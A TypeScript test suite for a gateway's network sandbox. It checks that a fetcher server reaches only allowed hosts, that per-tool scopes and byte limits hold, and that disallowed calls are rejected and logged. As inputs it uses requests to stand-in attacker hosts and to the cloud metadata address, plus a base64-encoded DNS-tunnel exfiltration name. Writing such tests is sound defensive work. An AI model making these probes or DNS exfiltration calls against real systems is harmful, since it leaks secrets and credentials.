// What a server may reach and what it cannot, through the whole gateway: its scope, the scope of one tool, names without
// a connection, and bytes.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { JsonObject } from "../../../src/core/json.ts";
import { best, objectionsIn, ownWord, Stage, type Said } from "../../kit/gateway/stage.ts";

const fetcher = fileURLToPath(new URL("network-server.ts", import.meta.url));
const largeBytes = 400_000;

let pages: Server;
let port = 0;
const visits: string[] = [];
let stage: Stage | undefined;

beforeAll(async () => {
  pages = createServer((request, response) => {
    visits.push(request.url ?? "");
    // Each page by a connection of its own: what is kept open is cut with the grant, and would fail without a trace.
    response.setHeader("connection", "close");
    response.end(request.url === "/large" ? "x".repeat(largeBytes) : "a page of this machine");
  });
  await new Promise<void>((done) => pages.listen(0, "127.0.0.1", done));
  // A server on a TCP port always has an AddressInfo.
  port = (pages.address() as AddressInfo).port;
});
afterAll(() => {
  pages.closeAllConnections();
  pages.close();
});
beforeEach(() => {
  visits.length = 0;
});
afterEach(async () => {
  await stage?.close();
  stage = undefined;
});

const reads = {
  effects: ["read.external"],
  rest: { role: "query", sink: false },
  output: { confidentiality: "public", trust: "untrusted" },
};

type Opened = { readonly stage: Stage; readonly call: (tool: string, given: JsonObject) => Promise<Said> };

async function open(scope: JsonObject): Promise<Opened> {
  const labels = Object.fromEntries(["fetch_page", "fetch_more", "look_up"].map((tool) => [`fetcher.${tool}`, reads]));
  const opened = await Stage.open({
    policy: {
      version: 1,
      extends: ["default"],
      labels,
      isolation: { require: "A", servers: { fetcher: { files: { workspace: { mode: "none" } }, ...scope } } },
    },
    servers: { fetcher: { command: [process.execPath, fetcher] } },
  });
  stage = opened;
  await opened.connect("fetcher");
  return { stage: opened, call: (tool, given) => opened.call("fetcher", tool, given) };
}

const here = (path = "/"): JsonObject => ({ url: `http://localhost:${port}${path}` });

describe.skipIf(!best)("a server and the network (need tier A)", () => {
  test("a host of its scope is reached, without any setting of a proxy", async () => {
    const opened = await open({ net: { allow: [`localhost:${port}`] } });
    for (const path of ["/one", "/two"]) {
      expect(await opened.call("fetch_page", here(path))).toMatchObject({
        text: "a page of this machine",
        isError: false,
      });
    }
    expect(visits).toEqual(["/one", "/two"]);
    expect(objectionsIn(await opened.stage.records())).toEqual([]);
  });

  test("any other name and any other address is not reached, and the result is rejected", async () => {
    for (const url of ["http://other.attacker.example/", "http://203.0.113.7/", "http://169.254.169.254/latest/"]) {
      const opened = await open({ net: { allow: [`localhost:${port}`] } });
      expect(ownWord(await opened.call("fetch_page", { url })), url).toBe("rejected");
      expect(objectionsIn(await opened.stage.records()).join(), url).toContain("SG-SCOPE-NET net.");
      await opened.stage.close();
      stage = undefined;
    }
    expect(visits).toEqual([]);
  });

  test("what one tool may reach is reached while it is called, and by no other", async () => {
    const net = { mode: "list", allow: [] };
    const opened = await open({ net, tools: { fetch_page: { allow: [`localhost:${port}`] } } });
    expect((await opened.call("fetch_page", here("/mine"))).text).toBe("a page of this machine");
    expect(ownWord(await opened.call("fetch_more", here("/not-mine")))).toBe("rejected");
    expect(visits).toEqual(["/mine"]);
  });

  test("a name that is only looked up is seen", async () => {
    const opened = await open({ net: { allow: [`localhost:${port}`] } });
    const secret = "c2VjcmV0.tunnel.attacker.example";
    expect(ownWord(await opened.call("look_up", { name: secret }))).toBe("rejected");
    expect(objectionsIn(await opened.stage.records())).toContainEqual(expect.stringContaining("net.name"));
  });

  test("beyond its bytes a call gets nothing more, and its result is rejected", async () => {
    const net = { allow: [`localhost:${port}`], callBytesMax: 100_000, serverBytesMax: 10_000_000 };
    const opened = await open({ net });
    expect((await opened.call("fetch_page", here("/small"))).text).toBe("a page of this machine");
    expect(ownWord(await opened.call("fetch_page", here("/large")))).toBe("rejected");
    expect(objectionsIn(await opened.stage.records()).join()).toContain("limit.hit");
  });

  test("without a network nothing is reached, and trying is held against it", async () => {
    const opened = await open({ net: { mode: "none" } });
    expect(ownWord(await opened.call("fetch_page", { url: "http://other.attacker.example/" }))).toBe("rejected");
    expect(visits).toEqual([]);
  });
});
